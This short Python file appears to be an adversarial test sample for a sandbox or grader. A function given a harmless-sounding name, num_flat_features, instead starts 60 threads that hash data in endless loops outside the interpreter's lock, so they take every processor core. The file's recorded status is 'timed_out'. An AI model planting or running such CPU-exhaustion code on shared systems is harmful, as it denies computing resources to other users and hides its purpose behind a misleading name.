"""Tries: to take the processors from its neighbours, with threads that work outside the interpreter's lock."""

import hashlib
import threading

STATUS = {"timed_out"}

BLOCK = bytes(2**20)


def work():
    while True:
        hashlib.sha256(BLOCK)


def num_flat_features(x):
    for _ in range(60):
        threading.Thread(target=work, daemon=True).start()
    work()
